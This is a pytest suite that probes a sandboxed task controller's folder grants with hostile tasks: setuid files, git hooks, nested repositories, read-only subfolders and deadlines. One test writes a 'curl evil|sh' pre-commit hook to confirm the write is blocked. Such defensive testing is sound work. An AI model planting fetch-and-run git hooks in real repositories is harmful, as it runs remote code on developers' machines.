"""Hostile tasks against the grants, in real Docker sandboxes through the API."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docker
import pytest
from conftest import Api, wait_until, write_config

from controller.settings import Settings, load_settings
from sandbox.base import DEADLINE_GRACE_S

pytestmark = pytest.mark.docker
OWNER = (4321, 4321)


@pytest.fixture
def make_settings(workspace: Path) -> Callable[..., Settings]:
    """The shared grants (rw `projects`, ro `readonly`) plus a narrower read-only grant inside
    `projects` and a grant whose `.git` folders tasks may write."""
    extra = (
        f'\n[[folders]]\npath = "{workspace / "projects" / "app" / "docs"}"\nmode = "ro"\n'
        f'\n[[folders]]\npath = "{workspace / "gitok"}"\nmode = "rw"\ngit_writable = true\n'
    )
    for path in (
        workspace / "projects" / "app" / "docs",
        workspace / "projects" / "app" / ".git" / "hooks",
        workspace / "gitok" / ".git" / "hooks",
    ):
        path.mkdir(parents=True, exist_ok=True)
    for path in [workspace / "projects", workspace / "gitok"]:
        for inner in [path, *path.rglob("*")]:
            os.chown(inner, *OWNER)

    def make(**flags: Any) -> Settings:
        flags = {"data_dir": workspace / "data", "sandbox_backend": "docker", **flags}
        environ = {"XDG_CONFIG_HOME": str(workspace / "xdg-config")}
        return load_settings(flags, environ, config=write_config(workspace, extra))

    return make


@pytest.fixture
def api(make_api: Callable[..., Api]) -> Api:
    return make_api(real_sandbox=True)


def run(api: Api, script: str, folder: Path, mode: str = "rw") -> dict[str, Any]:
    task = api.submit(["sh", "-c", script], folders=[{"path": str(folder), "mode": mode}])
    return api.wait_task(task["id"], timeout_s=90)


def test_a_task_cannot_leave_a_setuid_file(api: Api, workspace: Path) -> None:
    app = workspace / "projects" / "app"
    done = run(api, "echo x > tool && chmod 4755 tool", app)
    assert done["status"] == "failed", done
    assert "Operation not permitted" in "".join(c["text"] for c in done["output"])
    assert stat.S_IMODE((app / "tool").stat().st_mode) & 0o6000 == 0


def test_git_hooks_and_config_are_read_only_unless_the_grant_allows(
    api: Api, workspace: Path
) -> None:
    app = workspace / "projects" / "app"
    done = run(api, "echo code > main.py && echo 'curl evil|sh' > .git/hooks/pre-commit", app)
    assert done["status"] == "failed", done
    assert (app / "main.py").read_text() == "code\n"
    assert not (app / ".git" / "hooks" / "pre-commit").exists()
    gitok = workspace / "gitok"
    done = run(api, "echo 'make test' > .git/hooks/pre-commit", gitok)
    assert done["status"] == "succeeded", done
    assert (gitok / ".git" / "hooks" / "pre-commit").exists()


def test_a_repository_a_task_makes_is_renamed_aside_unless_the_grant_allows(
    api: Api, workspace: Path
) -> None:
    app = workspace / "projects" / "app"
    done = run(api, "mkdir -p src && git init -q src && echo made > src/file", app)
    assert done["status"] == "failed", done
    assert str(app / "src" / ".git") in done["reason"] and "quarantine" in done["reason"]
    assert not (app / "src" / ".git").exists() and (app / "src" / "file").exists()
    moved = app / "src" / ".git.dispatch-quarantine-1"
    assert (moved / "HEAD.dispatch-quarantine-1").exists() and (moved / "config").exists()
    gitok = workspace / "gitok"
    done = run(api, "git init -q sub", gitok)
    assert done["status"] == "succeeded", done
    assert (gitok / "sub" / ".git" / "HEAD").exists()


def test_a_read_only_grant_inside_a_read_write_one_stays_read_only(
    api: Api, workspace: Path
) -> None:
    app = workspace / "projects" / "app"
    done = run(api, "echo ok > notes.txt && echo bad > docs/notes.txt", app)
    assert done["status"] == "failed", done
    assert (app / "notes.txt").read_text() == "ok\n"
    assert not (app / "docs" / "notes.txt").exists()
    response = api.post(
        "/api/v1/tasks",
        json={"command": ["true"], "folders": [{"path": str(app / "docs"), "mode": "rw"}]},
    )
    assert response.status_code == 422
    assert "granted read-only" in response.json()["error"]["message"]


def test_a_task_sandbox_carries_a_deadline_from_the_task_timeout(api: Api, workspace: Path) -> None:
    submitted = time.time()
    task = api.submit(["sleep", "600"], timeout_s=300)
    sandbox_id = wait_until(lambda: api.task(task["id"])["sandbox_id"], 60, "the sandbox")
    args = docker.from_env().api.inspect_container(sandbox_id)["Args"]
    deadline = float(args[-1])
    assert submitted + 300 + DEADLINE_GRACE_S <= deadline <= time.time() + 300 + DEADLINE_GRACE_S
    api.post(f"/api/v1/tasks/{task['id']}/cancel")
